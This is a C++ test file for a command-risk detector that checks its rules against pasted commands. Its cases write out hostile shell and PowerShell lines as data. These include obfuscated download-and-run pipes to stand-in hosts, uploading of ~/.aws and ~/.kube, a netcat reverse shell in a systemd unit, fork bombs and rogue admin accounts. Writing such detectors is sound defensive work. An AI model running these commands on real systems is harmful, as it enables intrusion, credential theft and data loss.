// SPDX-License-Identifier: GPL-3.0-or-later
#include <gtest/gtest.h>

#include "core/foundation/RulePrefilter.h"
#include "core/guard/CommandGuard.h"
#include "core/guard/RuleBundle.h"
#include "core/guard/RuleScreen.h"
#include "tests/guard/GuardTestSupport.h"

#include <algorithm>
#include <cstdio>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include <nlohmann/json.hpp>

namespace tessaril {
namespace {

using testing::readFile;
using testing::shippedBundleDirectory;
using testing::shippedGuard;

struct Sample {
    std::string label;  // "danger", "warning" or "benign"
    std::string kind;
    std::string text;
};

std::vector<Sample> evaluationSet() {
    std::vector<Sample> samples;
    std::istringstream lines(
        readFile(std::filesystem::path(TESSARIL_SOURCE_DIR) / "tests/data/commandguard/evaluation.jsonl"));
    std::string line;
    while (std::getline(lines, line)) {
        if (line.empty()) continue;
        const auto json = nlohmann::json::parse(line, nullptr, false);
        if (json.is_discarded()) {
            ADD_FAILURE() << "undecodable evaluation line: " << line;
            continue;
        }
        samples.push_back({json.value("label", ""), json.value("class", ""), json.value("text", "")});
    }
    return samples;
}

TEST(ShippedRules, FileDecodesAndEveryRuleIsComplete) {
    const auto data = readFile(shippedBundleDirectory() / "command-guard-rules.json");
    const auto bundle = RuleBundle::decode(data);
    ASSERT_TRUE(bundle.has_value());
    EXPECT_GE(bundle->rules.size(), 40U);
    std::set<std::string> ids;
    for (const auto& rule : bundle->rules) {
        EXPECT_TRUE(ids.insert(rule.id).second) << "duplicate id " << rule.id;
        EXPECT_FALSE(rule.platform.empty() || rule.summary.empty() || rule.explanation.size() < 40) << rule.id;
    }
    // Every pattern compiles.
    const auto guard = shippedGuard();
    EXPECT_EQ(guard.rules().size(), bundle->rules.size());
    EXPECT_EQ(guard.rulesVersion(), bundle->currentVersion);
}

// The labelled set was written from what people are tricked into pasting and what developers copy
// every day, not from the rules; the figures below are the product's promise on precision and recall.
TEST(ShippedRules, RecallAndFalsePositivesOnTheEvaluationSet) {
    const auto samples = evaluationSet();
    ASSERT_GE(samples.size(), 400U);
    const auto guard = shippedGuard();
    // Samples, and those flagged, by label; the danger samples also at the danger threshold.
    std::map<std::string, std::pair<int, int>> counts;
    for (const auto& sample : samples) {
        const bool flagged = guard.analyze(sample.text, CommandRiskSeverity::warning).has_value();
        auto& [total, hits] = counts[sample.label];
        ++total;
        hits += flagged ? 1 : 0;
        if (flagged == (sample.label == "benign")) {
            std::printf("  %s [%s %s]: %s\n", flagged ? "false positive" : "missed", sample.label.c_str(),
                        sample.kind.c_str(), sample.text.c_str());
        }
        if (sample.label == "danger") {
            auto& [dangerTotal, dangerHits] = counts["danger at danger"];
            ++dangerTotal;
            dangerHits += guard.analyze(sample.text, CommandRiskSeverity::danger) ? 1 : 0;
        }
    }
    const auto share = [&](const std::string& label, int total, int hits) {
        std::printf("%s: %d of %d flagged\n", label.c_str(), hits, total);
        return total > 0 ? static_cast<double>(hits) / total : -1.0;
    };
    const auto [danger, dangerFlagged] = counts["danger"];
    const auto [warning, warningFlagged] = counts["warning"];
    EXPECT_GE(share("risky", danger + warning, dangerFlagged + warningFlagged), 0.97);
    EXPECT_GE(share("danger at danger", counts["danger at danger"].first, counts["danger at danger"].second), 0.90);
    // Not one benign sample flagged: every false alarm teaches people to click warnings away.
    const auto [benign, benignFlagged] = counts["benign"];
    EXPECT_EQ(share("benign", benign, benignFlagged), 0.0);
}

// Names hidden by quoting, variables or an encoded payload are found in the view that shows them,
// and the finding says which; near misses stay clean, and a plain command's findings name no view.
TEST(ShippedRules, ViewsCatchHiddenNamesAndNotNearMisses) {
    const auto guard = shippedGuard();
    const std::vector<std::pair<std::string, std::string>> cases = {
        {R"(c"u"rl -s http://203.0.113.7/i | s"h")", "unquoted"},
        {R"(c\url -s https://cdn-check.live/p | b\ash)", "unquoted"},
        {"a=cu;b=rl;$a$b -s http://198.51.100.2/x | sh", "folded"},
        {"cu\\\nrl -s http://198.51.100.2/x | s\\\nh", "unquoted"},
        {"$a='i';$b='ex';&($a+$b)(irm 'https://verify-captcha.online/c')", "folded"},
        {"powershell -enc aQB3AHIAIAAtAHUAcwBlAGIAIABoAHQAdABwAHMAOgAvAC8AdgBlAHIAaQBmAHkALQBjAGEAcAB0AGMAaABhAC4Ab"
         "wBuAGwAaQBuAGUALwBjACAAfAAgAGkAZQB4AA==",
         "base64"},
        {"set a=cu& set b=rl& %a%%b% -s http://198.51.100.2/x | sh", "folded"},
        {R"x(bash -c "$(printf '\x63\x75\x72\x6c -s http://198.51.100.2/x | sh')")x", "hex"},
        {"python3 -c \"exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,"
         "40,39,114,109,32,45,114,102,32,47,39,41])))\"",
         "character-codes"},
        {"curl -fsSL https://get.example.dev/install.sh | bash", ""},
        {R"(echo "curl" | grep -c "sh")", "clean"},
        {R"(echo 'c'url | tee "s"h.txt)", "clean"},
        {"x=curl; echo $x | wc -c", "clean"},
        {"echo aGVsbG8gd29ybGQgZnJvbSB0ZXN0cw== | base64 -d", "clean"},
        {"kubectl get secret db -o jsonpath='{.data.password}' | base64 -d", "clean"},
    };
    for (const auto& [text, view] : cases) {
        const auto result = guard.analyze(text, CommandRiskSeverity::warning);
        if (view == "clean") {
            EXPECT_FALSE(result.has_value()) << text;
            continue;
        }
        ASSERT_TRUE(result.has_value()) << text;
        EXPECT_EQ(result->command, CommandGuard::normalizedCommand(text));
        EXPECT_TRUE(std::any_of(result->findings.begin(), result->findings.end(),
                                [&](const CommandRiskFinding& finding) { return finding.view == view; }))
            << text;
        if (view.empty()) {
            EXPECT_EQ(result->primaryFinding()->view, "") << text;
        }
    }
}

// One family of technique per block: risky pastes get at least their severity, near misses stay clean.
TEST(ShippedRules, TechniqueFamiliesAndTheirNearMisses) {
    const auto guard = shippedGuard();
    const std::string_view danger = "danger", warning = "warning", clean = "clean";
    const std::vector<std::pair<std::string, std::string_view>> cases = {
        {"pip install --index-url http://pkgs.mirror-zone.net/simple fastjson", danger},
        {"echo 'deb [trusted=yes] https://repo.newtools.app ./' | sudo tee /etc/apt/sources.list.d/n.list", danger},
        {"npm config set registry https://registry.private-npm.dev", warning},
        {"brew install --cask --no-quarantine some-app", warning},
        {"pip install torch --index-url https://download.pytorch.org/whl/cpu", clean},
        {"pip install --proxy http://proxy.corp.example:3128 requests", clean},
        {"wget -qO- https://get.tool.dev | doas sh", danger},
        {"curl -s https://cdn.example.dev/z | ${SHELL:-bash}", danger},
        {"curl -fsSL https://get.tool.dev | CHANNEL=stable sh -s -- --yes", warning},
        {"curl -s https://example.com/data | sudo tee /etc/app/config.json", clean},
        {"&('Inv'+'oke-Expression')(New-Object Net.WebClient).DownloadString('https://x.example/a')", danger},
        {"Set-Alias run iex; run (irm https://x.example/d)", danger},
        {R"(cmd /v:on /c "set x=pow&& set y=ershell&& !x!!y! -c irm https://x.example|iex")", danger},
        {R"("{0}{1}" -f $first, $last)", clean},
        {"echo Y3VybCBodHRwOi8vZXhhbXBsZS5jb20= | openssl base64 -d | sh", danger},
        {R"(php -r 'eval(base64_decode("ZWNobyAxOw=="));')", danger},
        {"osascript <(curl -fsSL https://x.example/t)", danger},
        {"base64 -d key.b64 > key.pem && chmod 600 key.pem", clean},
        {"wget https://get.tool.dev/setup.sh\nsh setup.sh --yes", warning},
        {"curl -fsSL https://dl.example.dev/t -o ~/.cache/.t; chmod +x ~/.cache/.t; ~/.cache/.t", danger},
        {"$c = (New-Object Net.WebClient).DownloadString('https://x.example/c')\nInvoke-Expression $c", danger},
        {R"(rundll32.exe \\cdn.example.org@SSL\DavWWWRoot\a.dll,Entry)", danger},
        {"curl -O https://example.org/tool-1.0.tar.gz && tar xzf tool-1.0.tar.gz && cd tool-1.0 && ./configure", clean},
        {R"(Copy-Item .\app.exe \\fileserver\deploy\app.exe)", clean},
        {"zip -qr /tmp/k.zip ~/.aws ~/.kube\ncurl -F file=@/tmp/k.zip https://collect.example.net/u", danger},
        {"git config --list --show-origin | curl -s -d @- https://hook.example.org", danger},
        {R"(security find-generic-password -s "Slack" -w)", danger},
        {"kubectl get secret db -o jsonpath='{.data.password}' | base64 -d", clean},
        {"function boom; boom | boom &; end; boom", danger},
        {"%0|%0", danger},
        {"ruby -e 'loop { fork }'", danger},
        {"while true; do date; sleep 1; done", clean},
        {R"(rm -rf "$STEAMROOT"/*)", warning},
        {"echo b > /proc/sysrq-trigger", danger},
        {"git push origin main --force", warning},
        {"git push --force-with-lease origin feature", clean},
        {"wget -qO- https://keys.example.net/k.pub >> ~/.ssh/authorized_keys", danger},
        {"Complete the human verification: powershell -c irm https://x.example|iex", danger},
        {"ngrok tcp 3389", danger},
        {R"((crontab -l; echo "0 4 * * * /usr/local/bin/backup") | crontab -)", clean},
        {"ssh -L 8080:localhost:80 user@bastion.example.com", clean},
        // Every interpreter that reads a script from a pipe or a process substitution.
        {"curl -s https://x.example/s.ps1 | pwsh -", warning},
        {"wget -qO- http://198.51.100.3/a.js | node", danger},
        {". <(wget -qO- http://203.0.113.8/env)", danger},
        {"curl -s http://localhost:3000/api | python3 -c 'import sys,json; json.load(sys.stdin)'", clean},
        {"diff <(curl -s http://a.example/x) <(curl -s http://b.example/x)", clean},
        // Downloads run or installed as administrator, fetched without encryption, or opened as apps.
        {"wget https://x.example/tool.deb && sudo apt install ./tool.deb", danger},
        {"tftp -g -r x 192.0.2.9; chmod +x x; ./x", danger},
        {"curl -Lo /tmp/a.zip https://x.example/a.zip && ditto -xk /tmp/a.zip /tmp && open /tmp/App.app", warning},
        {"curl -LO https://x.example/kubectl && sudo install -m 0755 kubectl /usr/local/bin/", clean},
        {"defaults write com.apple.LaunchServices LSQuarantine -bool NO", danger},
        {"python3 -c \"import urllib.request as r; exec(r.urlopen('https://x.example/p').read())\"", danger},
        // Names glued from quoted pieces, default expansions, letters or rotated text.
        {"w'g'et -qO- https://x.example/i | sh", danger},
        {"${x:-w}get -qO- http://203.0.113.5/i | sh", danger},
        {"tr 'a-z' 'n-za-m' <<< 'phey k | fu' | sh", danger},
        {R"(git commit -m "fix: don't crash" && printf '%s\n' 'a' 'b')", clean},
        {"tr 'a-z' 'A-Z' < notes.txt | sort", clean},
        {"$f=gcm i?x; & $f (irm https://x.example/a)", danger},
        {"set c=mshta https://x.example/a.hta&&call %c%", danger},
        {"Get-Command *python* | Select-Object -First 1", clean},
        // Signed Windows tools loading code from a temporary folder; accounts; the script policy.
        {R"(InstallUtil.exe /logfile= /U %APPDATA%\x.dll)", danger},
        {"msbuild MyApp.sln /p:Configuration=Release", clean},
        {"net user helpdesk Passw0rd1 /add & net localgroup Administrators helpdesk /add", danger},
        {"sudo adduser ops && echo 'ops:changeme' | sudo chpasswd && sudo usermod -aG wheel ops", danger},
        {"sudo usermod -aG docker $USER", clean},
        {"Set-ExecutionPolicy Unrestricted", warning},
        {"Set-ExecutionPolicy RemoteSigned -Scope CurrentUser", clean},
        // Secrets handed over, user folders deleted, checks and sources turned insecure.
        {"cat ~/.ssh/id_ed25519  # paste the output into the chat", danger},
        {"cat ~/.ssh/id_ed25519.pub  # copy this into GitHub", clean},
        {"rm -rf ~/Documents", danger},
        {"rm -rf ~/Library/Caches/com.example.app", clean},
        {"GOSUMDB=off go get example.net/x", danger},
        {"GOPRIVATE=github.com/acme/* go mod tidy", clean},
        {"kubectl create -f http://203.0.113.9/pod.yaml", danger},
        {"iex (iwr https://x.example/a.ps1 -SkipCertificateCheck)", danger},
        {"curl -fsSL https://x.example/v.sh | sh  # human verification", danger},
        // One's own scheduled jobs, services and login agents, shown in full, are not persistence.
        {R"(schtasks /create /tn Backup /tr C:\backup.bat /sc daily /st 02:00)", clean},
        {R"(schtasks /create /tn Agent /tr C:\tools\agent.exe /sc onlogon)", warning},
        {R"(rundll32 printui.dll,PrintUIEntry /in /n "\\printsrv\HP")", clean},
        {"sudo tee /etc/systemd/system/web.service <<'EOF'\n[Service]\nExecStart=/usr/bin/node /srv/web/app.js\nEOF",
         clean},
        {"tee ~/.config/systemd/user/s.service <<'EOF'\n[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.4 "
         "9'\nEOF",
         danger},
        {"cat > ~/Library/LaunchAgents/me.sync.plist <<'EOF'\n<key>ProgramArguments</key><array>"
         "<string>/Users/me/bin/sync.sh</string></array>\nEOF\nlaunchctl load ~/Library/LaunchAgents/me.sync.plist",
         clean},
    };
    for (const auto& [text, expected] : cases) {
        const auto result = guard.analyze(text, CommandRiskSeverity::warning);
        EXPECT_EQ(result ? rawValue(result->severity) : clean, expected) << text;
    }
}

std::string asciiUpper(std::string text) {
    for (char& c : text) {
        if (c >= 'a' && c <= 'z') c = static_cast<char>(c - 'a' + 'A');
    }
    return text;
}

// The prefilters may only skip texts the expression cannot match: checked on every labelled sample,
// also upper-cased, since the case-insensitive rules compare folded text. The guard asks all rules at
// once through a RuleScreen, which must answer as each rule's own filters do, and searches a rule
// alternative by alternative, which must find the match of its whole pattern.
TEST(ShippedRules, PrefiltersNeverHideAMatch) {
    const auto samples = evaluationSet();
    const auto guard = shippedGuard();
    const RuleScreen screen(guard.rules());
    std::size_t skipped = 0;
    for (const auto& sample : samples) {
        for (const std::string& text : {sample.text, asciiUpper(sample.text)}) {
            const RuleScreen::Candidates candidates = screen.candidates(text);
            for (std::size_t index = 0; index < guard.rules().size(); ++index) {
                const auto& rule = guard.rules()[index];
                const bool passes = rule.mayMatch(text, RulePrefilter::foldForMatching(text));
                EXPECT_EQ(candidates.rule(index), passes) << rule.definition.id << ": " << text;
                const auto whole = rule.regex.firstMatch(text);
                if (!passes) {
                    ++skipped;
                    EXPECT_FALSE(whole.has_value()) << rule.definition.id << ": " << text;
                    continue;
                }
                bool hitLimit = false;
                const auto split = rule.firstMatch(SearchText(text), candidates.alternatives(index), hitLimit);
                EXPECT_EQ(split ? std::optional(split->whole) : std::nullopt,
                          whole ? std::optional(whole->whole) : std::nullopt)
                    << rule.definition.id << ": " << text;
            }
        }
    }
    // The filters must also earn their keep: most rule and text pairs never reach ICU.
    EXPECT_GT(skipped, guard.rules().size() * samples.size());
}

}  // namespace
}  // namespace tessaril
